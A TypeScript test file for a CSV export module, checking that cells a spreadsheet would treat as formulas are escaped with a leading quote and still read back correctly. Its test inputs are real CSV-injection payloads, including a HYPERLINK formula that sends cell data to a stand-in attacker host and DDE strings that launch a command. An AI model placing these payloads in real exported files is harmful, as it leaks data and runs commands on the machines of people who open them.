import { csvCell, createCsvWriter, readCsv, readCsvCell } from './csv';

async function written(rows: unknown[][], columns = ['a', 'b']): Promise<string> {
  const w = createCsvWriter({ columns });
  const chunks: Buffer[] = [];
  w.on('data', (c: Buffer) => chunks.push(Buffer.from(c)));
  const done = new Promise((r) => w.on('end', r));
  for (const row of rows) w.write(row);
  w.end();
  await done;
  return Buffer.concat(chunks).toString('utf8');
}

const ATTACKS = [
  '=HYPERLINK("http://evil.example/?"&A1,"詳細")',
  '+cmd|\' /C calc\'!A0',
  '-2+3+cmd|\' /C calc\'!A0',
  '@SUM(1+1)*cmd|\' /C calc\'!A0',
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  ' =1+1',
  '\u3000=1+1',
  '＝HYPERLINK("x")',
  '＋1',
  '－1',
  '＠SUM(A1)',
  '\tplain tab start',
];

describe('CSV writer', () => {
  it.each(ATTACKS)('never writes a cell that a spreadsheet reads as a formula: %j', async (attack) => {
    const out = await written([[attack, 'ok']]);
    const cells = readCsvRaw(out)[1];
    expect(cells[0].startsWith("'")).toBe(true);
    expect(cells[1]).toBe('ok');
  });

  it.each(ATTACKS)('round-trips through the product’s own reader: %j', async (attack) => {
    const out = await written([[attack, 'x']]);
    expect(readCsv(out)[1]).toEqual([attack, 'x']);
  });

  it('leaves ordinary text, numbers and Japanese alone', async () => {
    const out = await written([['山田 太郎', 42], ['a=b', 'メール@example.jp']]);
    expect(out.startsWith('\uFEFF')).toBe(true);
    expect(out).toContain('\r\n');
    expect(readCsvRaw(out).slice(1)).toEqual([
      ['山田 太郎', '42'],
      ['a=b', 'メール@example.jp'],
    ]);
  });

  it('a negative number is written as text too (OWASP: any leading minus)', () => {
    expect(csvCell(-5)).toBe("'-5");
    expect(readCsvCell("'-5")).toBe('-5');
  });

  it('keeps a value that itself starts with a quote', () => {
    expect(csvCell("'quoted")).toBe("'quoted");
    expect(readCsvCell("'quoted")).toBe("'quoted");
  });
});

/** The cells as a spreadsheet would see them (no un-escaping). */
function readCsvRaw(text: string): string[][] {
  // eslint-disable-next-line @typescript-eslint/no-require-imports
  const { parse } = require('csv-parse/sync') as typeof import('csv-parse/sync');
  return parse(text, { bom: true, relax_column_count: true }) as string[][];
}
